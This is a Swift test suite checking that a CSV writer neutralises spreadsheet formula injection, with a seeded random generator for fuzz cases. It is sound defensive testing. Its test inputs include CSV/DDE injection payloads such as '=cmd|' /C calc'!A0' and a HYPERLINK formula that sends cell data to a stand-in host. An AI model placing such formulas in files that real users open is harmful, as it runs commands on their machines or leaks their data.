import Foundation
import Testing

@testable import EstateCore

/// No cell Estate writes to CSV can run as a formula when a finance officer opens it in a spreadsheet,
/// whichever way the cell reaches the file; numbers stay numbers.
@Suite struct FormulaNeutralisationTests {
    /// Cell texts an inventory could carry to attack whoever opens Estate's CSV, each with a quirk of quoting.
    static let hostile = [
        "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "+44 20 7946 0000", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://example.invalid?\"&A1,\"Click\")", "=1,2", "-", "+", "@",
        "=\"a\"\"b\"", "-1+1", "+1e5+cmd", "-12.5.3", "=\r\n=2", "@\u{0}", "-e5",
    ]

    /// Whether a spreadsheet would treat the cell text as a formula: it starts with a trigger character and is
    /// not a plain number.
    static func runsAsFormula(_ cell: String) -> Bool {
        guard let first = cell.utf8.first else { return false }
        let triggers: Set<UInt8> = [
            UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D,
        ]
        return triggers.contains(first) && !CSVWriter.isPlainNumber(cell)
    }

    /// The cells of CSV text as a spreadsheet would read them, header first.
    static func cells(_ csv: String) -> [[String]] {
        CSVReader(data: Data(csv.utf8)).records().map(\.fields)
    }

    @Test(arguments: hostile)
    func aTextCellNeverRunsAsAFormulaInAnyWayEstateWritesIt(text: String) {
        var table = Table(columns: [.init("name"), .init("note")])
        table.append([.init(text), .init("x")])
        var streamed = CSVText(writer: CSVWriter())
        streamed.appendHeader(["name", "note"])
        streamed.append(text)
        streamed.append("x")
        streamed.endRecord()
        var record = ""
        CSVWriter().appendRecord([text, "x"], to: &record)

        for csv in [CSVWriter().render(table), streamed.finish(), "name,note\r\n" + record] {
            let rows = Self.cells(csv)
            #expect(rows.count == 2, "\(csv.debugDescription)")
            #expect(rows.last?.first == "'" + text, "\(csv.debugDescription)")
            #expect(!rows.joined().contains(where: Self.runsAsFormula), "\(csv.debugDescription)")
        }
    }

    @Test func aRecordAppendedByTheWriterIsNeutralisedUnlessTheWriterIsToldNotTo() {
        var safe = ""
        CSVWriter().appendRecord(["=SUM(A1)", "-12.50", "plain"], to: &safe)
        #expect(safe == "'=SUM(A1),-12.50,plain\r\n")
        var raw = ""
        CSVWriter(neutralisesFormulas: false).appendRecord(["=SUM(A1)"], to: &raw)
        #expect(raw == "=SUM(A1)\r\n")
    }

    @Test(arguments: ["=1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "12%+=1"])
    func aNumberCellWhoseTextIsNotANumberIsNeutralised(text: String) {
        var table = Table(columns: [.init("value")])
        table.append([Table.Cell(number: text, display: text)])
        let written = Self.cells(CSVWriter().render(table))[1][0]
        #expect(!Self.runsAsFormula(written))
        #expect(written == (Self.runsAsFormula(text) ? "'" + text : text))
    }

    @Test(arguments: ["-12", "-12.50", "+3", "-0.25", "1234.50", "-1.5e-05", "2.5E+3", "0"])
    func numbersStayNumbersWhetherNumberCellsOrText(text: String) {
        var table = Table(columns: [.init("number"), .init("text")])
        table.append([Table.Cell(number: text, display: text), .init(text)])
        #expect(Self.cells(CSVWriter().render(table))[1] == [text, text])
        #expect(CSVWriter().safe(text) == text)
    }

    @Test(arguments: ["-", "+", ".", "-.", "1e", "-e5", "1e5e5", "1.2.3", "--1", "1-2", "1e-"])
    func textThatOnlyLooksNumericIsNotAPlainNumber(text: String) {
        #expect(!CSVWriter.isPlainNumber(text))
    }

    @Test func aColumnNamedAfterInventoryDataIsNeutralisedInTheHeader() {
        let table = Table(columns: [.init("=Finance"), .init("site")])
        #expect(CSVWriter().render(table) == "'=Finance,site\r\n")
    }

    @Test func everyCellOfARandomTableIsSafeAndReadsBackAsWritten() {
        var generator = SeededGenerator(seed: 20_261_121)
        let alphabet = Array("=+-@\t\r\n,\"' 0123456789.eE|<>abc£é")
        var table = Table(columns: (0..<6).map { .init("c\($0)") })
        var texts: [[String]] = []
        for _ in 0..<400 {
            let row = (0..<6).map { _ in
                String(
                    (0..<Int.random(in: 0...8, using: &generator)).map { _ in
                        alphabet.randomElement(using: &generator) ?? "a"
                    })
            }
            texts.append(row)
            table.append(row.map { Table.Cell($0) })
        }
        let rows = Self.cells(CSVWriter().render(table)).dropFirst()
        #expect(rows.count == texts.count)
        for (written, original) in zip(rows, texts) {
            #expect(!written.contains(where: Self.runsAsFormula))
            // Undoing the neutralising prefix gives back exactly the inventory's text.
            let undone = zip(written, original).map { cell, text in
                Self.runsAsFormula(text) ? String(cell.dropFirst()) : cell
            }
            #expect(undone == original.map { $0.isEmpty ? "" : $0 })
        }
    }
}

/// A small deterministic random number generator (SplitMix64), so a failing case can be replayed.
struct SeededGenerator: RandomNumberGenerator {
    var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
